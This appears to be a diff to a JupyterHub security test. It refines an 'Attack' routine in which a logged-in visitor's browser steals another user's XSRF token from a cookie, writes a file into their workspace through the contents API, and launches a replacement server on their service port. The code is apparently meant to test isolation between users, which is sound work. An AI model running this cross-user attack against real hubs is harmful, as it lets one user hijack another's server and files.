@@ -19,7 +19,7 @@ import os, signal, subprocess, sys, urllib.parse
 port = urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
 with open("replacement.py", "w") as file:
     file.write({code!r})
-subprocess.Popen([sys.executable, "replacement.py", str(port)], start_new_session=True)
+subprocess.Popen([sys.executable, "-P", "replacement.py", str(port)], start_new_session=True)
 print("ready")
 """
 _SERVER = '''
@@ -68,7 +68,6 @@ document.querySelector("button").onclick = async () => {
     const answer = await fetch(url, options)
     return [answer.status, (await answer.text()).slice(0, 300)]
   }
-  const cookie = (page) => (page.cookie.match(/_xsrf=([^;]+)/) || [])[1]
   let xsrf = ""
   await attempt("hub", async () => {
     await load(hub + "/hub/home")
@@ -84,7 +83,8 @@ document.querySelector("button").onclick = async () => {
   })
   await attempt("write", async () => {
     const page = await load(theirs + "/lab")
-    const options = {method: "PUT", headers: {"X-XSRFToken": cookie(page)},
+    const xsrf = (page.cookie.match(/_xsrf=([^;]+)/) || [])[1]
+    const options = {method: "PUT", headers: {"X-XSRFToken": xsrf},
                      body: JSON.stringify({type: "file", format: "text", content: "taken"})}
     return (await opened.fetch(theirs + "/api/contents/taken.txt", options)).status
   })
@@ -129,6 +129,8 @@ class Attack:
             "bystander": self.bystander.name,
         }
         with browser.new_context() as context:
+            # JupyterLab's page will do; its program takes seconds to start.
+            context.route("**/static/lab/**", lambda route: route.abort())
             tab = context.new_page()
             tab.goto(f"{hub}/hub/login")
             tab.fill("#username_input", visitor.name)
